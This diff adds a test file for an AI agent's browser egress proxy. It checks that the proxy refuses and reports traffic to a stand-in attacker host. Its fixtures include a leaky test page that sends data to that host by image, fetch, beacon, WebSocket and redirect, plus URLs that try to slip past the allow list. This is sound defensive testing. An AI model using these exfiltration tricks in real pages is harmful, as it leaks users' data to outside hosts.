@@ -1,0 +1,222 @@
+import { request, type IncomingMessage } from 'node:http';
+import type { Socket } from 'node:net';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { EgressProxy } from '../../../src/agent/guard/egress-proxy';
+import type { GuardEvent } from '../../../src/agent/guard/browser';
+import { ATTACKER, HELP, launchLabChromium, PORTAL, PortalServer } from './watchdogs/portal-server';
+
+/**
+ * The egress lock alone: the proxy, driven first by hand (raw HTTP and CONNECT, as Chromium
+ * speaks to a proxy) and then by real Chromium with no other lock installed, so whatever it lets
+ * through lands at the server and is counted there.
+ */
+
+const server = new PortalServer();
+const LAB_RULES = 'MAP * 127.0.0.1';
+
+beforeAll(async () => {
+  await server.start();
+});
+afterAll(async () => {
+  await server.stop();
+});
+beforeEach(() => server.clear());
+
+interface Started {
+  proxy: EgressProxy;
+  events: GuardEvent[];
+  port: number;
+}
+
+const running: EgressProxy[] = [];
+afterEach(async () => {
+  await Promise.all(running.splice(0).map((p) => p.close()));
+});
+
+async function startProxy(rules: string | undefined = LAB_RULES): Promise<Started> {
+  const proxy = await EgressProxy.start(server.profile(), rules === undefined ? {} : { hostResolverRules: rules });
+  running.push(proxy);
+  const events: GuardEvent[] = [];
+  proxy.reportTo((e) => events.push(e));
+  return { proxy, events, port: Number(new URL(proxy.url).port) };
+}
+
+/** A request through the proxy in absolute form; answers the status and body, or 'no answer' when the proxy hangs up. */
+function viaProxy(port: number, url: string, method = 'GET'): Promise<{ status: number | 'no answer'; body: string }> {
+  return new Promise((resolve) => {
+    const req = request({ host: '127.0.0.1', port, method, path: url, headers: { host: URL.canParse(url) ? new URL(url).host : `${PORTAL}:${server.port}`, 'proxy-connection': 'keep-alive' }, agent: false }, (res) => {
+      let body = '';
+      res.setEncoding('utf8');
+      res.on('data', (chunk: string) => (body += chunk));
+      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
+    });
+    req.on('error', () => resolve({ status: 'no answer', body: '' }));
+    req.end(method === 'POST' ? 'owner_pan=AMNPR6621D' : undefined);
+  });
+}
+
+/** CONNECT host:port through the proxy; answers the status and, when tunnelled, the socket. */
+function tunnel(port: number, authority: string): Promise<{ status: number; socket?: Socket }> {
+  return new Promise((resolve, reject) => {
+    const req = request({ host: '127.0.0.1', port, method: 'CONNECT', path: authority, agent: false });
+    req.on('connect', (res: IncomingMessage, socket: Socket) => {
+      if (res.statusCode === 200) resolve({ status: 200, socket });
+      else {
+        socket.destroy();
+        resolve({ status: res.statusCode ?? 0 });
+      }
+    });
+    req.on('response', (res: IncomingMessage) => resolve({ status: res.statusCode ?? 0 }));
+    req.on('error', reject);
+    req.end();
+  });
+}
+
+/** Sends a raw HTTP/1.1 GET down a tunnel and answers the first line of the reply. */
+function getThrough(socket: Socket, host: string, path: string): Promise<string> {
+  return new Promise((resolve) => {
+    let reply = '';
+    socket.setEncoding('utf8');
+    socket.on('data', (chunk: string) => {
+      reply += chunk;
+      if (reply.includes('\r\n\r\n')) {
+        socket.destroy();
+        resolve(reply.split('\r\n')[0]!);
+      }
+    });
+    socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
+  });
+}
+
+describe('egress proxy, by hand', () => {
+  it('forwards a portal request to where the resolver rules send its name, with the portal as Host and without proxy headers', async () => {
+    const { port, events } = await startProxy();
+    const answer = await viaProxy(port, `${server.origin()}/hello?x=1`);
+    expect(answer.status).toBe(200);
+    expect(answer.body).toContain(`ok ${PORTAL}:${server.port}`);
+    expect(server.hits.map((h) => `${h.host} ${h.path}`)).toEqual([`${PORTAL} /hello?x=1`]);
+    expect(events).toEqual([]);
+  });
+
+  it('hangs up on an http request off the list (no answer in the attacker’s name) and reports it once', async () => {
+    const { port, events, proxy } = await startProxy();
+    const refused = [
+      `http://${ATTACKER}:${server.port}/collect?d=AMNPR6621D`,
+      `http://127.0.0.1:${server.port}/ip`,
+      `http://2130706433:${server.port}/numeric-ip`,
+      `http://${PORTAL}:${server.otherPort}/other-port`,
+      `http://${PORTAL}.:${server.port}/trailing-dot`,
+      `http://user@${PORTAL}:${server.port}/userinfo`,
+    ];
+    for (const url of refused) expect(await viaProxy(port, url, 'POST'), url).toEqual({ status: 'no answer', body: '' });
+    expect(await viaProxy(port, refused[0]!, 'POST')).toEqual({ status: 'no answer', body: '' });
+    expect(server.hits).toEqual([]);
+    expect(proxy.refused).toBe(refused.length + 1);
+    // The repeat within two seconds is one report (Chromium retries a request the proxy hung up on).
+    expect(events).toHaveLength(refused.length);
+    expect(events.every((e) => e.type === 'request_blocked' && e.detail.startsWith('Stopped a ') && e.detail.includes('at the egress lock'))).toBe(true);
+    expect(events[1]!.detail).toContain('bare IP number');
+    expect(events[3]!.detail).toContain(`not on port ${server.otherPort}`);
+  });
+
+  it('tunnels to a portal host and port (https, wss and ws go this way)', async () => {
+    const { port } = await startProxy();
+    const opened = await tunnel(port, `${HELP}:${server.port}`);
+    expect(opened.status).toBe(200);
+    expect(await getThrough(opened.socket!, `${HELP}:${server.port}`, '/through-tunnel')).toBe('HTTP/1.1 200 OK');
+    expect(server.hits.map((h) => `${h.host} ${h.path}`)).toEqual([`${HELP} /through-tunnel`]);
+  });
+
+  it('refuses a tunnel to any other name, IP literal, numeric host or port with 403, and reports it', async () => {
+    const { port, events } = await startProxy();
+    const refused = [`${ATTACKER}:${server.port}`, `127.0.0.1:${server.port}`, `[::1]:${server.port}`, `0x7f.1:${server.port}`, `${PORTAL}:${server.otherPort}`, `${PORTAL}:443`, `${PORTAL}`, `${ATTACKER}@${PORTAL}:${server.port}`];
+    for (const authority of refused) expect((await tunnel(port, authority)).status, authority).toBe(403);
+    // Asked again, refused again, not reported again (a refused tunnel carried nothing but its name).
+    expect((await tunnel(port, refused[0]!)).status).toBe(403);
+    expect(server.hits).toEqual([]);
+    expect(events.map((e) => e.url)).toEqual(refused);
+    expect(events.find((e) => e.url === `0x7f.1:${server.port}`)!.detail).toContain('bare IP number (127.0.0.1)');
+  });
+
+  it('answers a request that is not a proxy request with 400, and reports nothing (no page can send one)', async () => {
+    const { port, events } = await startProxy();
+    expect((await viaProxy(port, '/origin-form')).status).toBe(400);
+    expect(events).toEqual([]);
+  });
+
+  it('holds what it refused before anyone listens, and reports it when told where', async () => {
+    const proxy = await EgressProxy.start(server.profile(), { hostResolverRules: LAB_RULES });
+    running.push(proxy);
+    await tunnel(Number(new URL(proxy.url).port), `${ATTACKER}:443`);
+    const events: GuardEvent[] = [];
+    proxy.reportTo((e) => events.push(e));
+    expect(events.map((e) => e.url)).toEqual([`${ATTACKER}:443`]);
+  });
+
+  it('cuts open tunnels when it closes', async () => {
+    const { port, proxy } = await startProxy();
+    const opened = await tunnel(port, `${PORTAL}:${server.port}`);
+    const closed = new Promise((resolve) => opened.socket!.once('close', resolve));
+    await proxy.close();
+    await expect(closed).resolves.toBe(false);
+  });
+});
+
+describe('egress proxy in Chromium, with no other lock', () => {
+  let browser: Browser;
+  let context: BrowserContext;
+  let page: Page;
+  let started: Started;
+
+  beforeAll(async () => {
+    browser = await launchLabChromium();
+  });
+  afterAll(async () => {
+    await browser?.close();
+  });
+  beforeEach(async () => {
+    started = await startProxy();
+    context = await browser.newContext({ proxy: { server: started.proxy.url, bypass: '<-loopback>' } });
+    page = await context.newPage();
+  });
+  afterEach(async () => {
+    await context.close();
+  });
+
+  const attacker = (path: string) => `http://${ATTACKER}:${server.port}${path}`;
+
+  it('the portal loads through it, frames of an allowed site too', async () => {
+    const path = server.page('/portal', `<iframe src="http://${HELP}:${server.port}/help"></iframe>`);
+    const response = await page.goto(`${server.origin()}${path}`);
+    expect(response?.status()).toBe(200);
+    await expect.poll(() => server.to(HELP).length, { timeout: 10_000 }).toBe(1);
+    expect(server.offPortal()).toEqual([]);
+  });
+
+  it('stops what a page sends anywhere else: image, fetch, beacon, frame, WebSocket, IP literal, other port, a redirect hop', async () => {
+    const path = server.page(
+      '/leaky',
+      `<img src="${attacker('/pixel.gif')}"><iframe src="${attacker('/frame')}"></iframe><script>
+        fetch(${JSON.stringify(attacker('/fetch'))}, { method: 'POST', mode: 'no-cors', body: 'd=1' }).catch(() => {});
+        navigator.sendBeacon(${JSON.stringify(attacker('/beacon'))}, 'd=1');
+        fetch('http://127.0.0.1:${server.port}/ip', { mode: 'no-cors' }).catch(() => {});
+        fetch('http://${PORTAL}:${server.otherPort}/other-port', { mode: 'no-cors' }).catch(() => {});
+        try { const s = new WebSocket('ws://${ATTACKER}:${server.port}/socket'); s.onerror = () => {}; } catch (e) {}
+        fetch('/redirect?to=' + encodeURIComponent(${JSON.stringify(attacker('/after-redirect'))}), { mode: 'no-cors' }).catch(() => {});
+      </script>`,
+    );
+    await page.goto(`${server.origin()}${path}`);
+    const expected = [attacker('/pixel.gif'), attacker('/frame'), attacker('/fetch'), attacker('/beacon'), `http://127.0.0.1:${server.port}/ip`, `http://${PORTAL}:${server.otherPort}/other-port`, `${ATTACKER}:${server.port}`, attacker('/after-redirect')];
+    await expect.poll(() => started.events.map((e) => e.url), { timeout: 15_000 }).toEqual(expect.arrayContaining(expected));
+    await page.waitForTimeout(300);
+    // The redirect itself came from the portal (allowed); its next hop went nowhere.
+    expect(server.offPortal()).toEqual([]);
+    expect(server.to(PORTAL).some((h) => h.path.startsWith('/redirect'))).toBe(true);
+  });
+
+  it('a navigation off the list is a network error, not a page the proxy made', async () => {
+    await expect(page.goto(attacker('/away'))).rejects.toThrow(/ERR_EMPTY_RESPONSE|ERR_CONNECTION_CLOSED|ERR_CONNECTION_RESET/);
+    expect(server.offPortal()).toEqual([]);
+  });
+});
